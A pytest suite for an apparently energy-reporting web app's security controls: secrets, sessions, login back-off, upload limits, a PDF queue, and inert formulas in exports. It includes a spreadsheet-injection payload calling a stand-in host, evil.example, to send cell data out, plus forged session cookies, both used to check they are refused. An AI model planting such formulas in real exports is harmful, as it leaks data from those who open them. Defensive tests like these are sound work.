"""Security of the web layer (issue 16): secrets, server-side sessions, login back-off,
the streaming body limit, the PDF queue, inert formulas in exports, and two former 500s.

The app runs on the small demo store (DuckDB; PostgreSQL when configured), as in
tests/test_web_api.py; the limiter, queue and settings are also tested on their own.
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import io
import re
import stat
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from itsdangerous import URLSafeTimedSerializer
from pydantic import ValidationError

from dualcontrol import bulletin as bulletin_mod
from dualcontrol.store import open_store
from dualcontrol.web import create_app
from dualcontrol.web.data import StoreData
from dualcontrol.web.demo_users import create_demo_users, demo_accounts
from dualcontrol.web.limits import LoginLimiter, QueueFullError, RenderQueue
from dualcontrol.web.security import new_token, token_digest
from dualcontrol.web.settings import DEVELOPMENT_SECRET, SECRET_FILE_NAME, WebSettings
from dualcontrol.web.store_users import StoreUsers
from dualcontrol.web.users import make_user

PASSWORD = "correct horse battery"
ADMIN = "demo-administrator"
REVIEWER = "demo-reviewer"
#: A user name that a spreadsheet would run as a formula (no spaces: a valid name).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
#: Body limit of the test app [bytes].
LIMIT = 64 * 1024


@pytest.fixture(scope="module")
def world(small_store_url: str):
    """The app on the small demo store with demo users, an admin token, small limits."""
    store = open_store(small_store_url)
    data = StoreData(store)
    users = StoreUsers(store)
    create_demo_users(users, demo_accounts(data.hierarchy()), password=PASSWORD)
    admin_token = new_token()
    users.add_token(
        username=ADMIN,
        digest=token_digest(admin_token),
        expires_at=datetime.now(UTC) + timedelta(hours=1),
    )
    settings = WebSettings(
        environment="test",
        secret_key="test-secret-0123456789",
        max_upload_bytes=LIMIT,
        pdf_max_running=1,
        pdf_max_waiting=0,
        pdf_wait_s=0.1,
        login_max_failures=3,
    )
    app = create_app(data=data, users=users, settings=settings)
    yield {
        "app": app,
        "store": store,
        "users": users,
        "data": data,
        "admin": {"Authorization": f"Bearer {admin_token}"},
    }
    store.close()


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF token in the form"
    return found.group(1)


def login(client: TestClient, username: str, password: str = PASSWORD) -> None:
    form = client.get("/login")
    answer = client.post(
        "/login",
        data={"username": username, "password": password, "csrf_token": csrf_of(form.text)},
        follow_redirects=False,
    )
    assert answer.status_code == 303, answer.text


def is_administrator(client: TestClient) -> bool:
    """True if the client's cookie makes it an administrator (GET needs manage_users)."""
    status = client.get("/api/users").status_code
    assert status in (200, 401, 403)
    return status == 200


def reads_counties(client: TestClient) -> bool:
    """True if the client reads county totals (any logged-in reviewer; never the public)."""
    status = client.get("/api/accounts?level=county").status_code
    assert status in (200, 401, 403)
    return status == 200


def cookie_client(world, cookie: str) -> TestClient:
    client = TestClient(world["app"])
    client.cookies.set("dualcontrol_session", cookie)
    return client


# ---- secret key ---------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.5", "::", "example.org"])
def test_development_secret_refused_off_loopback(host: str) -> None:
    with pytest.raises(ValidationError, match="development secret"):
        WebSettings(secret_key=DEVELOPMENT_SECRET, host=host)


@pytest.mark.parametrize("host", ["127.0.0.1", "127.8.9.10", "::1", "localhost"])
def test_development_secret_accepted_on_loopback(host: str) -> None:
    assert WebSettings(secret_key=DEVELOPMENT_SECRET, host=host).secret_key == DEVELOPMENT_SECRET


def test_development_secret_refused_outside_development() -> None:
    with pytest.raises(ValidationError, match="development"):
        WebSettings(secret_key=DEVELOPMENT_SECRET, environment="production")


def test_secret_made_once_in_the_data_folder_and_reused(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("DUALCONTROL_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("DUALCONTROL_WEB_SECRET_KEY", raising=False)
    first = WebSettings(host="0.0.0.0")
    path = tmp_path / "home" / SECRET_FILE_NAME
    assert path.exists() and stat.S_IMODE(path.stat().st_mode) == 0o600
    assert len(first.secret_key) >= 40 and first.secret_key != DEVELOPMENT_SECRET
    assert WebSettings().secret_key == first.secret_key == path.read_text().strip()
    monkeypatch.setenv("DUALCONTROL_WEB_SECRET_KEY", "my-own-secret-of-the-site")
    assert WebSettings().secret_key == "my-own-secret-of-the-site"


def test_each_installation_has_its_own_secret(tmp_path, monkeypatch) -> None:
    monkeypatch.delenv("DUALCONTROL_WEB_SECRET_KEY", raising=False)
    keys = set()
    for name in ("a", "b"):
        monkeypatch.setenv("DUALCONTROL_HOME", str(tmp_path / name))
        keys.add(WebSettings().secret_key)
    assert len(keys) == 2


# ---- sessions -----------------------------------------------------------------------------


@pytest.mark.parametrize("secret", [DEVELOPMENT_SECRET, "test-secret-0123456789"])
def test_cookie_naming_a_user_is_refused_even_if_signed(world, secret: str) -> None:
    # the old cookie format ({"u": user, "c": csrf}) under the public and the real secret
    for salt in ("dualcontrol-session", "dualcontrol-session-v2"):
        forged = URLSafeTimedSerializer(secret, salt=salt).dumps({"u": ADMIN, "c": "x"})
        assert not is_administrator(cookie_client(world, forged))
    made_up = URLSafeTimedSerializer(secret, salt="dualcontrol-session-v2").dumps(
        {"s": new_token()}
    )
    assert not is_administrator(cookie_client(world, made_up))


def test_session_stored_as_a_digest_only(world) -> None:
    client = TestClient(world["app"])
    login(client, ADMIN)
    assert is_administrator(client)
    cookie = client.cookies.get("dualcontrol_session")
    with world["store"].connect() as conn:
        rows = conn.execute(sa.text("SELECT digest, csrf FROM web_sessions")).all()
    assert rows and all(r[0] not in cookie and len(r[0]) == 64 for r in rows)


def test_logout_ends_the_session_and_a_copied_cookie_is_anonymous(world) -> None:
    client = TestClient(world["app"])
    login(client, ADMIN)
    cookie = client.cookies.get("dualcontrol_session")
    assert is_administrator(cookie_client(world, cookie))
    page = client.get("/")
    answer = client.post("/logout", data={"csrf_token": csrf_of(page.text)}, follow_redirects=False)
    assert answer.status_code == 303
    assert not is_administrator(client)
    assert not is_administrator(cookie_client(world, cookie))
    assert any(
        e.action == "logout" and e.username == ADMIN for e in world["users"].audit_entries(limit=10)
    )


def test_administrator_lists_and_revokes_another_users_sessions(world) -> None:
    reviewer = TestClient(world["app"])
    login(reviewer, REVIEWER)
    assert reads_counties(reviewer)
    admin = TestClient(world["app"])
    listed = admin.get(f"/api/users/{REVIEWER}/sessions", headers=world["admin"])
    assert listed.status_code == 200
    live = [s for s in listed.json() if not s["revoked"]]
    assert live and all(len(s["key"]) == 16 for s in live)
    answer = admin.delete(f"/api/users/{REVIEWER}/sessions", headers=world["admin"])
    assert answer.status_code == 200 and answer.json()["revoked"] >= 1
    assert not reads_counties(reviewer)
    after = admin.get(f"/api/users/{REVIEWER}/sessions", headers=world["admin"]).json()
    assert after and all(s["revoked"] for s in after)
    assert any(
        e.action == "sessions_revoked" and e.entity_key == REVIEWER
        for e in world["users"].audit_entries(limit=10)
    )


def test_only_administrators_see_or_revoke_sessions(world) -> None:
    reviewer = TestClient(world["app"])
    login(reviewer, REVIEWER)
    assert reviewer.get(f"/api/users/{ADMIN}/sessions").status_code == 403
    token = reviewer.post("/api/token", data={"username": REVIEWER, "password": PASSWORD})
    header = {"Authorization": f"Bearer {token.json()['access_token']}"}
    assert reviewer.delete(f"/api/users/{ADMIN}/sessions", headers=header).status_code == 403


def test_deactivation_ends_sessions_and_tokens(world) -> None:
    world["users"].add_user(user=make_user("leaving", PASSWORD, "reviewer"))
    page = TestClient(world["app"])
    login(page, "leaving")
    token = page.post("/api/token", data={"username": "leaving", "password": PASSWORD})
    header = {"Authorization": f"Bearer {token.json()['access_token']}"}
    assert reads_counties(page)
    assert page.get("/api/accounts?level=county", headers=header).status_code == 200
    answer = TestClient(world["app"]).patch(
        "/api/users/leaving", json={"active": False}, headers=world["admin"]
    )
    assert answer.status_code == 200 and answer.json()["active"] is False
    assert not reads_counties(page)
    assert page.get("/api/accounts?level=county", headers=header).status_code == 401
    assert all(s.revoked for s in world["users"].list_sessions(username="leaving"))
    entry = next(
        e for e in world["users"].audit_entries(limit=10) if e.action == "user_deactivated"
    )
    assert entry.entity_key == "leaving" and '"tokens_revoked": 1' in (entry.after or "")
    # reactivated, the old token stays dead: it was deleted
    TestClient(world["app"]).patch(
        "/api/users/leaving", json={"active": True}, headers=world["admin"]
    )
    assert page.get("/api/accounts?level=county", headers=header).status_code == 401


def test_administrator_cannot_deactivate_itself(world) -> None:
    answer = TestClient(world["app"]).patch(
        f"/api/users/{ADMIN}", json={"active": False}, headers=world["admin"]
    )
    assert answer.status_code == 422
    assert world["users"].get_user(username=ADMIN).active


# ---- login back-off -----------------------------------------------------------------------


class FakeClock:
    """A monotonic clock the test moves by hand [s]."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_backoff_per_user_and_address_grows_and_is_capped() -> None:
    clock = FakeClock()
    limiter = LoginLimiter(
        max_failures=3,
        max_per_address=100,
        window_s=900,
        backoff_s=1.0,
        backoff_max_s=8.0,
        clock=clock,
    )
    waits = [limiter.fail("ana", "10.0.0.1") for _ in range(7)]
    assert waits == [0.0, 0.0, 1.0, 2.0, 4.0, 8.0, 8.0]
    assert limiter.retry_after("ana", "10.0.0.1") == pytest.approx(8.0)
    # the same user from another address, and another user from the first, are free
    assert limiter.retry_after("ana", "10.0.0.2") == 0.0
    assert limiter.retry_after("bob", "10.0.0.1") == 0.0
    clock.now += 8.0
    assert limiter.retry_after("ana", "10.0.0.1") == 0.0
    limiter.succeed("ana", "10.0.0.1")
    assert limiter.fail("ana", "10.0.0.1") == 0.0


def test_failures_forgotten_after_the_window() -> None:
    clock = FakeClock()
    limiter = LoginLimiter(max_failures=2, max_per_address=100, window_s=60, clock=clock)
    limiter.fail("ana", "a")
    clock.now += 61
    assert limiter.fail("ana", "a") == 0.0


def test_one_address_trying_many_names_is_capped() -> None:
    clock = FakeClock()
    limiter = LoginLimiter(max_failures=5, max_per_address=10, window_s=300, clock=clock)
    for i in range(10):
        limiter.fail(f"user{i}", "10.6.6.6")
    assert limiter.retry_after("someone-else", "10.6.6.6") == pytest.approx(300)
    assert limiter.retry_after("someone-else", "10.0.0.1") == 0.0
    clock.now += 301
    assert limiter.retry_after("someone-else", "10.6.6.6") == 0.0


def test_guesses_from_one_address_do_not_lock_the_user_out_elsewhere(world) -> None:
    name = "target"
    world["users"].add_user(user=make_user(name, PASSWORD, "reviewer"))
    attacker = TestClient(world["app"], client=("203.0.113.9", 5000))
    codes = [
        attacker.post("/api/token", data={"username": name, "password": "wrong"}).status_code
        for _ in range(4)
    ]
    assert codes == [401, 401, 401, 429]
    blocked = attacker.post("/api/token", data={"username": name, "password": PASSWORD})
    assert blocked.status_code == 429 and int(blocked.headers["Retry-After"]) >= 1
    owner = TestClient(world["app"], client=("198.51.100.7", 5000))
    assert (
        owner.post("/api/token", data={"username": name, "password": PASSWORD}).status_code == 200
    )
    assert any(
        e.action == "login_limited" and e.entity_key == name
        for e in world["users"].audit_entries(limit=20)
    )


# ---- body limit ---------------------------------------------------------------------------


def post_in_chunks(
    app,
    path: str,
    chunks: list[bytes],
    headers: list[tuple[bytes, bytes]],
) -> tuple[int, int]:
    """Drive the ASGI app with a body sent in chunks; return (status, chunks it read)."""
    sent = {"chunks": 0}
    answer: dict[str, int] = {}

    async def receive() -> dict:
        if sent["chunks"] < len(chunks):
            sent["chunks"] += 1
            return {
                "type": "http.request",
                "body": chunks[sent["chunks"] - 1],
                "more_body": sent["chunks"] < len(chunks),
            }
        await asyncio.sleep(3600)  # the client would wait; the app must not ask again
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        if message["type"] == "http.response.start":
            answer["status"] = message["status"]

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "query_string": b"",
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 1234),
        "server": ("testserver", 80),
    }

    async def run() -> None:
        async with asyncio.timeout(30):
            await app(scope, receive, send)

    # a thread of its own: the browser tests may leave an event loop running in this one
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        pool.submit(lambda: asyncio.run(run())).result()
    return answer["status"], sent["chunks"]


def multipart_chunks(total: int, chunk: int = 8192) -> tuple[list[bytes], bytes]:
    """Return a multipart upload of one CSV file of ``total`` bytes, in chunks."""
    boundary = b"xXxBoundaryxXx"
    head = (
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; '
        b'filename="big.csv"\r\nContent-Type: text/csv\r\n\r\n'
    )
    body = head + b"a" * total + b"\r\n--" + boundary + b"--\r\n"
    parts = [body[i : i + chunk] for i in range(0, len(body), chunk)]
    return parts, b"multipart/form-data; boundary=" + boundary


@pytest.mark.parametrize("length", [None, b"1000"])
def test_body_over_the_limit_refused_while_streaming(world, length) -> None:
    chunks, content_type = multipart_chunks(20 * LIMIT)
    headers = [(b"content-type", content_type)]
    if length is not None:  # a Content-Length that lies
        headers.append((b"content-length", length))
    status, read = post_in_chunks(world["app"], "/api/reports", chunks, headers)
    assert status == 413
    # stopped one chunk past the limit: never more than LIMIT + 8 KiB held
    assert read * 8192 <= LIMIT + 8192 < len(chunks) * 8192


def test_declared_length_over_the_limit_refused_before_reading(world) -> None:
    chunks, content_type = multipart_chunks(2 * LIMIT)
    headers = [
        (b"content-type", content_type),
        (b"content-length", str(sum(map(len, chunks))).encode()),
    ]
    assert post_in_chunks(world["app"], "/api/reports", chunks, headers) == (413, 0)


def test_body_under_the_limit_reaches_the_route(world) -> None:
    answer = TestClient(world["app"]).post(
        "/api/reports", files={"file": ("r.csv", b"a,b\n1,2\n", "text/csv")}
    )
    assert answer.status_code == 401  # anonymous: the route answered, not the limit


def test_upload_over_the_limit_answers_413_json(world) -> None:
    answer = TestClient(world["app"]).post(
        "/api/reports",
        headers=world["admin"],
        files={"file": ("big.csv", b"x" * (2 * LIMIT), "text/csv")},
    )
    assert answer.status_code == 413 and str(LIMIT) in answer.json()["detail"]


# ---- PDF queue ----------------------------------------------------------------------------


def test_render_queue_bounds_running_and_waiting() -> None:
    queue = RenderQueue(max_running=1, max_waiting=0, wait_s=0.05)
    with queue.slot():
        assert queue.admitted == 1
        with pytest.raises(QueueFullError), queue.slot():
            pass
    assert queue.admitted == 0
    waiting = RenderQueue(max_running=1, max_waiting=1, wait_s=0.05)
    with waiting.slot(), pytest.raises(QueueFullError), waiting.slot():
        pass  # admitted to wait, but the slot never frees within wait_s
    assert waiting.admitted == 0


@pytest.fixture
def fake_chromium(monkeypatch):
    """Replace Chromium by a writer of a tiny PDF; count the renders."""
    renders = []

    def write_pdf(b, path, **kw):
        renders.append(b.label)
        path.write_bytes(b"%PDF-1.4 fake")
        return path

    monkeypatch.setattr(bulletin_mod, "write_pdf", write_pdf)
    return renders


def test_pdf_only_for_logged_in_roles_that_need_it(world, fake_chromium) -> None:
    anonymous = TestClient(world["app"]).get("/bulletin?format=pdf")
    assert anonymous.status_code == 401
    public = TestClient(world["app"])
    login(public, "demo-public")
    assert public.get("/bulletin?format=pdf").status_code == 403
    assert fake_chromium == []
    reviewer = TestClient(world["app"])
    login(reviewer, REVIEWER)
    answer = reviewer.get("/bulletin?format=pdf")
    assert answer.status_code == 200 and answer.content.startswith(b"%PDF")
    assert len(fake_chromium) == 1


def test_pdf_queue_full_answers_503_with_retry_after(world, fake_chromium) -> None:
    client = TestClient(world["app"])
    with world["app"].state.ctx.pdf_queue.slot():  # a render in progress
        answer = client.get("/bulletin?format=pdf", headers=world["admin"])
    assert answer.status_code == 503 and int(answer.headers["Retry-After"]) >= 1
    assert fake_chromium == []
    assert client.get("/bulletin?format=pdf", headers=world["admin"]).status_code == 200


# ---- exports ------------------------------------------------------------------------------


def cells(answer, fmt: str) -> list:
    """Return every cell of a CSV or XLSX answer as written (XLSX formulas as such)."""
    if fmt == "csv":
        frame = pd.read_csv(io.BytesIO(answer.content), dtype=str, keep_default_na=False)
        return [*frame.columns, *frame.to_numpy().ravel()]
    book = openpyxl.load_workbook(io.BytesIO(answer.content))
    found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in found if c.data_type == "f"], "a live formula"
    return [c.value for c in found]


def assert_inert(values: list) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert "'" + FORMULA in texts
    assert not [v for v in texts if v.startswith(("=", "+", "@", "\t", "\r"))]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_audit_log_export_has_no_live_formula(world, fmt: str) -> None:
    client = TestClient(world["app"])
    client.post("/api/token", data={"username": FORMULA, "password": "nope"})
    answer = client.get(f"/api/audit?limit=50&format={fmt}", headers=world["admin"])
    assert answer.status_code == 200
    assert_inert(cells(answer, fmt))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_accounts_export_has_no_live_formula(world, fmt: str) -> None:
    with world["store"].begin() as conn:
        uscc = conn.execute(sa.text("SELECT min(uscc) FROM enterprises")).scalar_one()
        conn.execute(
            sa.text("UPDATE enterprises SET name = :n WHERE uscc = :u"), {"n": FORMULA, "u": uscc}
        )
    world["data"]._cache.clear()
    answer = TestClient(world["app"]).get(
        f"/api/accounts?level=enterprise&format={fmt}", headers=world["admin"]
    )
    assert answer.status_code == 200
    values = cells(answer, fmt)
    assert_inert(values)
    if fmt == "xlsx":  # numbers stay numbers
        assert any(isinstance(v, float) for v in values)


def test_bulletin_xlsx_has_no_live_formula(world, tmp_path) -> None:
    from dualcontrol.web.routes.bulletin import make_bulletin_from

    result = make_bulletin_from(world["data"], None)
    result = replace(
        result,
        leagues=result.leagues.assign(league=FORMULA),
        commentary=[FORMULA, *result.commentary],
    )
    path = bulletin_mod.write_xlsx(result, tmp_path / "b.xlsx")
    book = openpyxl.load_workbook(path)
    found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in found if c.data_type == "f"]
    assert_inert([c.value for c in found])
    assert any(c.data_type == "n" and isinstance(c.value, float) for c in found)


# ---- former 500s --------------------------------------------------------------------------


def test_negative_seed_is_a_422(world) -> None:
    answer = TestClient(world["app"]).get("/api/outlook/baseline/paths?seed=-1")
    assert answer.status_code == 422
    assert answer.json()["detail"][0]["field"] == "query.seed"


def test_xlsx_that_is_not_a_workbook_is_a_422_naming_the_file(world) -> None:
    answer = TestClient(world["app"]).post(
        "/api/reports",
        headers=world["admin"],
        files={"file": ("march.xlsx", b"uscc,period\nnot,a zip\n", XLSX)},
    )
    assert answer.status_code == 422, answer.text
    problem = answer.json()["problems"][0]
    assert problem["file"] == "march.xlsx" and "XLSX" in problem["message"]


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_pdf_link_shown_only_to_those_who_may_have_it(world) -> None:
    assert 'id="bulletin-pdf"' not in TestClient(world["app"]).get("/bulletin").text
    reviewer = TestClient(world["app"])
    login(reviewer, REVIEWER)
    assert 'id="bulletin-pdf"' in reviewer.get("/bulletin").text


def test_a_new_store_serves_every_page_without_a_500(tmp_path, monkeypatch) -> None:
    """A fresh installation (no submission yet): the overview renders, the bulletin says
    there is nothing to publish (422), nothing answers 500 (issue 23's smoke finding)."""
    from dualcontrol.store import open_store
    from dualcontrol.web import create_app
    from dualcontrol.web.data import StoreData
    from dualcontrol.web.store_users import StoreUsers

    monkeypatch.setenv("DUALCONTROL_HOME", str(tmp_path))
    store = open_store(f"duckdb:///{(tmp_path / 'new.duckdb').as_posix()}")
    try:
        app = create_app(data=StoreData(store), users=StoreUsers(store))
        client = TestClient(app, raise_server_exceptions=False)
        assert client.get("/").status_code == 200
        assert client.get("/login").status_code == 200
        bulletin = client.get("/bulletin")
        assert bulletin.status_code == 422 and "no energy reports" in bulletin.text
        assert client.get("/api/accounts?level=region").json() == []
    finally:
        store.close()
